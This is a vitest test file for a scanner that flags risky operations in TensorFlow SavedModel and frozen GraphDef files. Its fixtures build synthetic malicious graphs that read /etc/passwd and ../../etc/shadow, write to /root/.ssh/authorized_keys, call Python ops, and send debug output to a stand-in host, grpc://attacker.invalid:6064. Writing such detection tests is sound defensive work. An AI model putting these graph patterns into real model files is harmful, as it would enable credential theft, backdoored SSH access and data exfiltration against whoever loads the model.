import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { BufferSource } from '../../limits/index.js';
import { onnxModel } from '../../../test-fixtures/onnx-builder.js';
import { savedModelPb, tfGraphDef } from '../../../test-fixtures/protobuf-builder.js';
import { ruleIds, scanHarness } from '../../../test-fixtures/safetensors-builder.js';
import { isOnnx } from '../onnx/index.js';
import { DEFAULT_LIMITS } from '../../limits/index.js';
import { isSavedModel, isTensorflowGraphDef, parseTensorflow, scanSavedModel, TF_OP_NAMES } from './index.js';

const REAL = readFileSync(new URL('../../../test-fixtures/real/saved_model.pb', import.meta.url));

function scan(bytes: Uint8Array) {
  const h = scanHarness('saved_model.pb');
  const summary = scanSavedModel(new BufferSource(bytes), h.ctx);
  return { ...h, summary, ids: ruleIds(h.findings) };
}

const SAVER = [
  { name: 'saver_filename', op: 'Placeholder' },
  { name: 'Const', op: 'Const', constStrings: ['model'] },
  { name: 'save/SaveV2', op: 'SaveV2', inputs: ['saver_filename', 'Const'] },
];

describe('SavedModel sniffers', () => {
  it('recognise saved_model.pb and frozen GraphDefs by structure, not ONNX', () => {
    expect(isSavedModel(new BufferSource(REAL))).toBe(true);
    expect(isSavedModel(new BufferSource(savedModelPb(SAVER)))).toBe(true);
    expect(isSavedModel(new BufferSource(onnxModel()))).toBe(false);
    expect(isOnnx(new BufferSource(REAL))).toBe(false);
    expect(isTensorflowGraphDef(new BufferSource(tfGraphDef(SAVER).finish()))).toBe(true);
    expect(isTensorflowGraphDef(new BufferSource(REAL))).toBe(false);
    expect(isSavedModel(new BufferSource(new TextEncoder().encode('\x08\x01junk')))).toBe(false);
  });
});

describe('SavedModel scanner', () => {
  it('passes the real SavedModel written by TensorFlow 2.21 clean', () => {
    const r = scan(REAL);
    expect(r.findings).toEqual([]);
    expect(r.summary?.tags).toEqual(['serve']);
    expect(r.summary?.ops.get('SaveV2')).toBe(1);
    expect(r.summary?.functions).toBeGreaterThan(3);
  });

  it('knows the standard op set', () => {
    expect(TF_OP_NAMES.has('MatMul')).toBe(true);
    expect(TF_OP_NAMES.size).toBeGreaterThan(1500);
  });

  it('reports Python ops, also inside functions', () => {
    const r = scan(savedModelPb([{ name: 'call', op: 'StatefulPartitionedCall' }], [{ name: '__inference_f_1', nodes: [{ name: 'py', op: 'EagerPyFunc' }] }]));
    expect(r.ids).toEqual(['tensorflow/python-op']);
    expect(r.findings[0]?.message).toContain('function __inference_f_1');
  });

  it('reports file-system ops, network ops and debug URLs', () => {
    const r = scan(
      savedModelPb([
        { name: 'p', op: 'Const', constStrings: ['/etc/passwd'] },
        { name: 'read', op: 'ReadFile', inputs: ['p'] },
        { name: 'w', op: 'WriteFile', inputs: ['p', 'p'] },
        { name: 'rpc', op: 'RpcClient' },
        { name: 'dbg', op: 'DebugIdentity', attrs: { debug_urls: ['grpc://attacker.invalid:6064'] } },
        { name: 'pr', op: 'PrintV2', attrs: { output_stream: ['file:///tmp/x'] } },
      ]),
    );
    expect(r.ids).toEqual(['tensorflow/file-system-op', 'tensorflow/network-op']);
    expect(r.findings.find((f) => f.evidence === 'ReadFile')?.message).toContain('/etc/passwd');
    expect(r.findings.filter((f) => f.ruleId === 'tensorflow/network-op')).toHaveLength(2);
  });

  it('accepts checkpoint ops on the model\u2019s own files and flags unusual constant paths', () => {
    expect(scan(savedModelPb(SAVER)).findings).toEqual([]);
    const r = scan(
      savedModelPb([
        { name: 'evil', op: 'Const', constStrings: ['/root/.ssh/authorized_keys'] },
        { name: 'save', op: 'SaveV2', inputs: ['evil:0', '^dep'] },
        { name: 'vocab', op: 'Const', constStrings: ['../../etc/shadow'] },
        { name: 'table', op: 'InitializeTableFromTextFileV2', inputs: ['t', 'vocab'] },
      ], [], { assets: ['vocab.txt', '/etc/hosts'] }),
    );
    expect(r.ids).toEqual(['tensorflow/file-system-op']);
    expect(r.findings.map((f) => f.evidence).sort()).toEqual(['/etc/hosts', 'InitializeTableFromTextFileV2:../../etc/shadow', 'SaveV2:/root/.ssh/authorized_keys']);
  });

  it('reports ops that TensorFlow does not register, but not calls to graph functions', () => {
    const r = scan(savedModelPb([{ name: 'a', op: 'MyCustomOp' }, { name: 'b', op: 'MyCustomOp' }, { name: 'f', op: 'my_function' }], [{ name: 'my_function', nodes: [{ name: 'x', op: 'Relu' }] }]));
    expect(r.ids).toEqual(['tensorflow/custom-op']);
    expect(r.findings[0]?.message).toContain('2 node(s)');
    const declared = scan(savedModelPb([{ name: 'a', op: 'Relu' }], [], { strippedOps: ['Relu', 'Zap'] }));
    expect(declared.findings.map((f) => f.evidence)).toEqual(['Zap']);
  });

  it('scans frozen GraphDefs', () => {
    const r = scan(tfGraphDef([{ name: 'py', op: 'PyFunc' }]).finish());
    expect(r.summary?.kind).toBe('graph-def');
    expect(r.ids).toEqual(['tensorflow/python-op']);
  });

  it('reports truncated files as partial', () => {
    const r = scan(REAL.subarray(0, REAL.length - 10));
    expect(r.ids).toContain('scan/malformed-input');
    expect(r.state.partial).toBe(true);
  });

  it('never throws on arbitrary or mutated bytes (property)', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 300 }), fc.nat(REAL.length - 1), fc.integer({ min: 0, max: 255 }), fc.boolean(), (junk, at, byte, mutate) => {
        let bytes: Uint8Array = junk;
        if (mutate) {
          bytes = Uint8Array.from(REAL); // a copy: Buffer#slice shares memory with REAL
          bytes[at] = byte;
        }
        isSavedModel(new BufferSource(bytes));
        isTensorflowGraphDef(new BufferSource(bytes));
        scan(bytes);
      }),
      { numRuns: 400 },
    );
  });

  it('names maxProtobufFields when the graph has more fields than the limit', () => {
    const h = scanHarness('saved_model.pb', { maxProtobufFields: 20 });
    scanSavedModel(new BufferSource(REAL), h.ctx);
    expect(ruleIds(h.findings)).toContain('scan/limit-exceeded');
    expect(h.findings.find((f) => f.ruleId === 'scan/limit-exceeded')?.evidence).toBe('maxProtobufFields');
    expect(h.state.partial).toBe(true);
  });
});

describe('TensorFlow parser (structure, no judgement)', () => {
  it('returns nodes by scope, functions, declared ops and asset files', () => {
    const g = parseTensorflow(
      new BufferSource(savedModelPb([{ name: 'p', op: 'Const', constStrings: ['/etc/passwd'] }, { name: 'r', op: 'ReadFile', inputs: ['p'] }], [{ name: 'f', nodes: [{ name: 'py', op: 'EagerPyFunc' }] }])),
      DEFAULT_LIMITS,
    );
    expect(g.error).toBeUndefined();
    expect(g.kind).toBe('saved-model');
    expect([...g.scopes.keys()]).toEqual(['graph', 'function f']);
    expect(g.scopes.get('graph')?.map((n) => [n.name, n.op, n.inputs, n.strings])).toEqual([
      ['p', 'Const', [], ['/etc/passwd']],
      ['r', 'ReadFile', ['p'], []],
    ]);
    expect([...g.functionNames]).toEqual(['f']);
  });

  it('keeps what it read when the walk stops', () => {
    const g = parseTensorflow(new BufferSource(REAL.subarray(0, REAL.length - 7)), DEFAULT_LIMITS);
    expect(g.error).toBeDefined();
  });
});
